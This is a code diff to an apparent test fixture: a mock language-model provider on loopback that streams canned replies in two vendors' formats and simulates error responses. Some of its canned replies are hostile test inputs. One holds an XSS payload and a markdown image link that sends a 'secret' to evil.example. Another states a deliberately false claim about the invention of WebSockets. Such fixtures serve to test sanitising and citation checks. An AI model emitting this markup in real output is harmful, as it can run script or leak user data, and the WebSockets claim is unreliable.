@@ -1,4 +1,4 @@
-"""A provider on loopback that speaks both vendors' dialects, and behaves as its model's name says."""
+"""A provider on loopback: it speaks both vendors' dialects and behaves as its model is named."""
 
 import asyncio
 import json
@@ -34,7 +34,7 @@ SAYS = {
     "nothing": ("NOTHING",),
     "unsourced": ("WebSockets were invented in Paris in 1889 by two brothers.",),
     "html": (
-        "The pong carries the payload <img src=x onerror=alert(1)> of the ping [1]. "
+        "The pong carries the payload <img src=x onerror=alert(1)> of the ping [1]. ",
         "![pong](https://evil.example/?q=secret) The peer answers a ping with a pong [1].",
     ),
     "breaks": ("A pong carries the payload [1]. A ping ",),
@@ -107,25 +107,47 @@ def chunk(text):
     choice = {"index": 0, "delta": {"content": text} if text else {}, "finish_reason": None}
     if text is None:
         choice["finish_reason"] = "stop"
-    return sse({"id": "1", "object": "chat.completion.chunk", "created": 1, "model": "m", "choices": [choice]})
+    return sse(
+        {
+            "id": "1",
+            "object": "chat.completion.chunk",
+            "created": 1,
+            "model": "m",
+            "choices": [choice],
+        }
+    )
 
 
 def event(text):
     """A piece in Anthropic's dialect; None is the last one."""
     if text is None:
-        delta = {"type": "message_delta", "delta": {"stop_reason": "end_turn"}, "usage": {"output_tokens": 9}}
+        delta = {
+            "type": "message_delta",
+            "delta": {"stop_reason": "end_turn"},
+            "usage": {"output_tokens": 9},
+        }
         return sse(delta, "message_delta")
-    delta = {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": text}}
+    delta = {
+        "type": "content_block_delta",
+        "index": 0,
+        "delta": {"type": "text_delta", "text": text},
+    }
     return sse(delta, "content_block_delta")
 
 
+def refused(status, **headers):
+    """A refusal as both vendors word it."""
+    error = {"type": "error", "error": {"type": "some_error", "message": "no"}}
+    return lambda: web.json_response(error, status=status, headers=headers)
+
+
 REFUSALS = {
-    "limited": lambda: web.json_response({"error": {"message": "slow down"}}, status=429, headers={"Retry-After": "7"}),
-    "locked": lambda: web.json_response({"error": {"message": "no such key"}}, status=401),
-    "unknown": lambda: web.json_response({"error": {"message": "no such model"}}, status=404),
-    "overloaded": lambda: web.json_response({"error": {"message": "overloaded"}}, status=529),
+    "limited": refused(429, **{"Retry-After": "7"}),
+    "locked": refused(401),
+    "unknown": refused(404),
+    "overloaded": refused(529),
     "page": lambda: web.Response(text="<html>It works!</html>", content_type="text/html"),
-}  # fmt: skip
+}
 
 
 @asynccontextmanager
